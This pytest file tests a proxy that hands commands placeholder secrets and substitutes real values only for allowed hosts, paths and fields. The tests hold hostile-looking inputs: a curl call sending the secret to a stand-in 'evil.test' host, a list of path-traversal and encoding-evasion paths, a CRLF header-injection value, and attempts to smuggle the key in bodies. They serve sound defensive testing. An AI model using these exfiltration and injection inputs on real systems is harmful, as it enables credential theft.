"""What a command can do with a placeholder, and what it can't: by real clients, against a server that logs all."""

import base64
import gzip
import json
import os
import re
import subprocess
import sys

import pytest
from support.broker_world import HARD, KEY, descendants, eventually

TABLE = """
[[secrets.KEY.allow]]
host = "api.test"
port = {port}
methods = ["GET", "POST"]
paths = ["/v1/**", "/echo*"]
{more}
"""


def secret(world, more="", *, deny="", file="key", keys=""):
    table = TABLE.format(port=world.up.port, more=more)
    world.template(f'[secrets.KEY]\nref = "file://{world.path / file}"\n{keys}\n{table}\n{deny}')


def test_01_a_placeholder_has_the_secrets_length_and_is_new_in_each_run(world):
    shown = [world.run("printenv", "KEY").stdout.strip() for _ in range(2)]
    assert shown[0] != shown[1]
    assert all(len(text) == len(KEY) and text != KEY for text in shown)


def test_02_a_placeholder_keeps_the_shape_or_is_opaque(world):
    token = "ghp_" + "Zx9Qw2" * 6
    (world.path / "token").write_text(token)
    secret(world, file="token")
    shown = world_run(world, "printenv", "KEY").stdout.strip()
    assert re.fullmatch(r"ghp_[A-Za-z0-9]{36}", shown)
    assert shown != token
    secret(world, file="token", keys='placeholder = "opaque"')
    assert re.fullmatch(r"srph_[0-9a-f]{32}", world_run(world, "printenv", "KEY").stdout.strip())


def world_run(world, *words, options=(), **more):
    """A run by the user's own configuration alone."""
    return subprocess.run(
        world.command("--broker", *options, "--", *words), env=world.environ, cwd=world.project, check=False,
        capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL, **more,
    )  # fmt: skip


def test_03_two_secrets_of_one_value_can_not_be_laundered_through_each_other(world):
    grants = [world.rule(name="A"), world.rule(name="B", host="other.test")]
    options = ["--set", f"A=file://{world.path / 'key'}", "--set", f"B=file://{world.path / 'key'}"]
    for one in grants:
        options += ["--grant", one]
    with world.session(options=options, plain=True) as client:
        assert client["A"] != client["B"]
        answer = client.get("/v1/echo", f"Authorization: {client['A']}", host="other.test")
        assert (answer.status, answer.reason) == (403, "host_not_allowed")
        assert client.get("/v1/echo", f"Authorization: {client['B']}", host="other.test").status == 200
    assert len(world.up.requests()) == 1


def test_04_the_value_is_nowhere_on_the_commands_side(world):
    with world.session() as client:
        client.get("/v1/echo", f"Authorization: Bearer {client['KEY']}")
        pids = [client.process.pid, *descendants(client.process.pid)]
        environs = b"".join(read_or_nothing(f"/proc/{pid}/environ") for pid in pids)
        argv = b"".join(read_or_nothing(f"/proc/{pid}/cmdline") for pid in pids)
        assert client["KEY"].encode() in environs
        assert KEY.encode() not in environs + argv
        for place in (
            world.environ["TMPDIR"],
            world.project,
            world.home,
            os.path.dirname(client["SSL_CERT_FILE"]),
        ):
            found = subprocess.run(
                ["grep", "-rlF", KEY, str(place)], capture_output=True, text=True, check=False
            )
            assert found.stdout == ""
    assert KEY in world.up.requests()[0]["head"]


def read_or_nothing(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def test_05_a_jwts_placeholder_is_a_jwt_of_nobody(world):
    def part(document):
        return base64.urlsafe_b64encode(json.dumps(document).encode()).rstrip(b"=").decode()

    token = f"{part({'alg': 'HS256'})}.{part({'sub': 'me', 'scope': 'a' * 120})}.{'s' * 43}"
    (world.path / "jwt").write_text(token)
    secret(world, file="jwt")
    header, claims, signature = world_run(world, "printenv", "KEY").stdout.strip().split(".")
    read = [json.loads(base64.urlsafe_b64decode(text + "==")) for text in (header, claims)]
    assert read[0]["alg"] == "HS256"
    assert read[1]["exp"] > 4e9
    import hashlib
    import hmac

    for key in (b"", b"secret", token.encode()):
        real = hmac.digest(key, f"{header}.{claims}".encode(), hashlib.sha256)
        assert base64.urlsafe_b64encode(real).rstrip(b"=").decode() != signature


def test_06_extract_that_matches_nothing_starts_nothing(world):
    secret(world, keys="extract = '://[^:]+:([^@]+)@'")
    done = world_run(world, "touch", "started")
    assert done.returncode == 125
    assert "KEY: 'extract' matches nothing" in done.stderr
    assert not (world.project / "started").exists()


def test_06_extract_leaves_the_rest_of_a_value_as_it_is(world):
    (world.path / "url").write_text(f"https://bot:{KEY}@api.test/path")
    secret(world, file="url", keys="extract = '://[^:]+:([^@]+)@'")
    shown = world_run(world, "printenv", "KEY").stdout.strip()
    assert re.fullmatch(r"https://bot:srph_\w{35}@api\.test/path", shown)


def test_07_a_secret_without_a_rule_is_withheld(world):
    (world.path / "other").write_text("another-value-of-24-bytes")
    done = world.run(
        "sh", "-c", "echo ${OTHER-unset} $KEY", options=["--set", f"OTHER=file://{world.path / 'other'}"]
    )
    assert done.stdout.startswith("unset srph_")
    assert "OTHER has no rule, so the command does not get it" in done.stderr


def test_08_curl_uses_a_secret_it_can_not_read(world):
    done = world.run(
        "sh",
        "-c",
        f'echo $KEY; curl -sS -H "Authorization: Bearer $KEY" https://api.test:{world.up.port}/v1/echo',
    )
    placeholder = done.stdout.split()[0]
    assert f"Authorization: Bearer {placeholder}" in done.stdout
    assert KEY not in done.stdout + done.stderr
    assert f"Authorization: Bearer {KEY}" in world.up.requests()[0]["head"]


def test_09_a_password_in_basic_credentials(world):
    secret(world, 'in = ["basic:password"]')
    done = world_run(world, "sh", "-c", f"curl -sS -u user:$KEY https://api.test:{world.up.port}/echo")
    coded = base64.b64encode(f"user:{KEY}".encode()).decode()
    assert f"Authorization: Basic {coded}" in world.up.requests()[0]["head"]
    assert coded not in done.stdout
    refused = world_run(world, "sh", "-c", f"curl -sS -u $KEY:x https://api.test:{world.up.port}/echo")
    assert json.loads(refused.stdout)["reason"] == "location_not_allowed"


def test_10_another_host_gets_nothing(world):
    (world.path / "other").write_text("another-value-of-24-bytes")
    options = [
        "--set", f"OTHER=file://{world.path / 'other'}",
        "--grant", world.rule(name="OTHER", host="evil.test", port=world.evil.port),
    ]  # fmt: skip
    done = world.run(
        "sh",
        "-c",
        f'curl -sS -H "Authorization: Bearer $KEY" https://evil.test:{world.evil.port}/v1/echo',
        options=options,
    )
    assert json.loads(done.stdout) | {"hint": ""} == {
        "error": "secretrun_denied", "secret": "KEY", "reason": "host_not_allowed", "path": "/v1/echo", "hint": "",
    }  # fmt: skip
    assert world.evil.log() == []
    (event,) = world.events(event="misuse")
    assert (event["secrets"], event["host"], event["reason"]) == (["KEY"], "evil.test", "host_not_allowed")


def test_10_a_host_without_rules_is_not_even_connected_to(world):
    done = world.run("curl", "-sS", f"https://evil.test:{world.evil.port}/")
    assert done.returncode == 56  # curl's: the proxy refused
    assert world.evil.log() == []
    assert world.events(event="refused", reason="host_not_allowed")


@pytest.mark.parametrize(
    ("method", "path", "reason"),
    [("DELETE", "/v1/x", "method_not_allowed"), ("GET", "/v2/x", "path_not_allowed")],
)
def test_11_12_another_method_and_another_path(world, method, path, reason):
    with world.session() as client:
        answer = client.get(path, f"Authorization: {client['KEY']}", method=method)
    assert (answer.status, answer.reason) == (403, reason)
    assert world.up.log() == []


AMBIGUOUS = (
    "/v1/../admin", "/v1/%2e%2e/admin", "/v1/.%2E/admin", "/v1/%2fadmin", "/v1//admin", "/v1/a;b/../admin", "/V1/x",
    "/v1/a;b", "/v1/%5cadmin", "/v1\\..\\admin", "/v1/%252e%252e/admin", "/v1/%00", "/v1/./x", "/v1/%c0%ae/x", "/v1/%zz",
)  # fmt: skip


@pytest.mark.parametrize("path", AMBIGUOUS)
def test_13_a_path_that_could_be_read_in_two_ways(world, waiting, path):
    answer = waiting.get(path, f"Authorization: {waiting['KEY']}")
    assert answer.status in (400, 403)
    assert world.up.log() == []


PLACES = {
    "query": ("/v1/x?a={}", (), b""),
    "query name": ("/v1/x?{}=1", (), b""),
    "escaped query": ("/v1/x?a=%73{}", (), b""),
    "path": ("/v1/{}", (), b""),
    "cookie": ("/v1/x", ("Cookie: a={}",), b""),
    "referer": ("/v1/x", ("Referer: https://x/{}",), b""),
    "user agent": ("/v1/x", ("User-Agent: {}",), b""),
    "forwarded": ("/v1/x", ("X-Forwarded-Proto: {}",), b""),
    "header name": ("/v1/x", ("{}: x",), b""),
    "body": ("/v1/x", (), b"a {} b"),
    "json": ("/v1/x", ("Content-Type: application/json",), b'{{"a": "{}"}}'),
}


@pytest.mark.parametrize("place", PLACES)
def test_14_a_place_that_no_rule_names(world, waiting, place):
    path, headers, body = PLACES[place]
    key = waiting["KEY"]
    if place == "escaped query":
        assert key[0] == "s"
        path = path.format(key[1:])
    answer = waiting.get(
        path.format(key), *[line.format(key) for line in headers], method="POST",
        body=body.decode().format(key).encode() if body else b"",
    )  # fmt: skip
    assert (answer.status, answer.reason) == (403, "location_not_allowed")
    assert world.up.log() == []


def test_15_one_field_of_a_json_body(world):
    secret(world, 'in = ["json:data.token"]')
    with world.session(options=["--broker"], plain=True) as client:
        key = client["KEY"]

        def post(document):
            return client.get(
                "/v1/x", "Content-Type: application/json", method="POST", body=document.encode()
            )

        assert post(json.dumps({"data": {"token": key, "n": [1, 2.50]}})).status == 200
        for wrong in (
            json.dumps({"data": {"note": key}}),
            json.dumps({"data": {"token": key, "note": key}}),
            json.dumps({"data": {key: 1}}),
            f'{{"data": {{"token": "x", "token": "{key}"}}, "data": {{"token": "{key}"}}}}',
            '{"data": {"note": "\\u0073' + key[1:] + '"}}',
            '{"data": {"token": "\\u0073' + key[1:] + '"}}',
        ):
            assert post(wrong).status == 403, wrong
    (request,) = world.up.requests()
    assert json.loads(request["body"]) == {"data": {"token": KEY, "n": [1, 2.5]}}


def test_16_one_field_of_a_form(world):
    (world.path / "hard").write_text(HARD)
    secret(world, 'in = ["form:client_secret"]', file="hard")
    with world.session(options=["--broker"], plain=True) as client:
        key = client["KEY"]
        kind = "Content-Type: application/x-www-form-urlencoded"
        assert (
            client.get("/v1/x", kind, method="POST", body=f"a=1&client_secret={key}&b=2".encode()).status
            == 200
        )
        assert (
            client.get("/v1/x", kind, method="POST", body=f"note={key}".encode()).reason
            == "location_not_allowed"
        )
    (request,) = world.up.requests()
    import urllib.parse

    assert urllib.parse.parse_qs(request["body"]) == {"a": ["1"], "client_secret": [HARD], "b": ["2"]}


def test_17_more_placeholders_than_the_rule_allows(world):
    with world.session() as client:
        answer = client.get("/v1/x", f"Authorization: {client['KEY']}", f"X-Other: {client['KEY']}")
    assert (answer.status, answer.reason) == (403, "too_many_uses")
    assert world.up.log() == []


def test_18_a_secret_with_a_line_end_starts_nothing(world):
    (world.path / "lines").write_text("two-lines-of-a-secret\r\nX-Injected: yes")
    secret(world, file="lines")
    done = world_run(world, "touch", "started")
    assert done.returncode == 125
    assert "KEY holds a line end" in done.stderr
    assert not (world.project / "started").exists()


def test_19_a_placeholder_split_across_the_chunks_of_a_body(world):
    secret(world, 'in = ["body"]')
    with world.session(options=["--broker"], plain=True) as client:
        key = client["KEY"].encode()
        for at in range(len(key) + 1):
            parts = [b"before ", key[:at], key[at:], b" after"]
            body = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts if part) + b"0\r\n\r\n"
            assert client.get("/v1/x", "Transfer-Encoding: chunked", method="POST", body=body).status == 200
    assert {record["body"] for record in world.up.requests()} == {f"before {KEY} after"}


@pytest.mark.slow
def test_19_a_body_of_50_megabytes_passes_through_little_memory(world):
    secret(world, 'in = ["body"]')
    program = f"""
import http.client, os, ssl, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
one = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=ssl.create_default_context())
import base64
one.set_tunnel("api.test", {world.up.port}, headers={{"Proxy-Authorization": "Basic " + base64.b64encode((proxy.username + ":" + proxy.password).encode()).decode()}})
def body():
    for _ in range(800): yield b"x" * 65536
    yield os.environ["KEY"].encode()
one.request("POST", "/v1/x", body=body(), encode_chunked=True, headers={{"Transfer-Encoding": "chunked"}})
print(one.getresponse().status)
import sys; sys.stdout.flush(); sys.stdin.read()
"""
    process = subprocess.Popen(
        world.command("--broker", "--", sys.executable, "-c", program), env=world.environ, cwd=world.project,
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert process.stdout.readline().strip() == "200"
        peaks = [high_water(pid) for pid in descendants(process.pid)]
        assert max(peaks) < 80 << 10
    finally:
        process.communicate()
    (request,) = world.up.requests()
    assert request["length"] == 800 * 65536 + len(KEY)


def high_water(pid):
    """The most memory a process had, in KiB."""
    for line in read_or_nothing(f"/proc/{pid}/status").decode().splitlines():
        if line.startswith("VmHWM"):
            return int(line.split()[1])
    return 0


def test_20_an_encoded_body_is_looked_into(world):
    secret(world, 'in = ["body", "header"]')
    with world.session(options=["--broker"], plain=True) as client:

        def post(body, coding="gzip"):
            return client.get("/v1/x", f"Content-Encoding: {coding}", method="POST", body=body)

        assert post(gzip.compress(b"x " + client["KEY"].encode())).reason == "encoded_body"
        assert post(gzip.compress(b"x " + KEY.encode())).reason == "leak"
        assert post(b"what is this", "rot13").reason == "encoded_body"
        harmless = gzip.compress(b"nothing in it " * 1000)
        assert world.up.log() == []
        assert post(harmless).status == 200
    assert world.up.requests()[0]["body"].encode("latin-1") == harmless[:4096]


def test_a_real_value_in_a_request_is_refused(world):
    with world.session() as client:
        for headers, body in (
            ((f"X-Note: {KEY}",), b""),
            ((), f"it is {KEY}".encode()),
            ((), base64.b64encode(b"note: " + KEY.encode())),
            ((), json.dumps({"a": KEY}).encode()),
        ):
            answer = client.get("/v1/x", *headers, method="POST", body=body)
            assert (answer.status, answer.reason) == (403, "leak")
        assert client.get(f"/v1/{KEY}").reason == "leak"
    assert world.up.log() == []
    assert len(world.events(event="misuse", reason="leak")) == 5
    assert KEY not in world.audit.read_text()


def test_the_broker_is_told_of_with_what_it_needs(world):
    with world.session() as client:
        eventually(lambda: world.events(event="started"))
        assert client["NO_PROXY"] == "localhost,127.0.0.1,::1"
    (started,) = world.events(event="started")
    assert (started["assurance"], started["secrets"]) == ("cooperative", ["KEY"])
    assert len(world.events(event="ended")) == 1
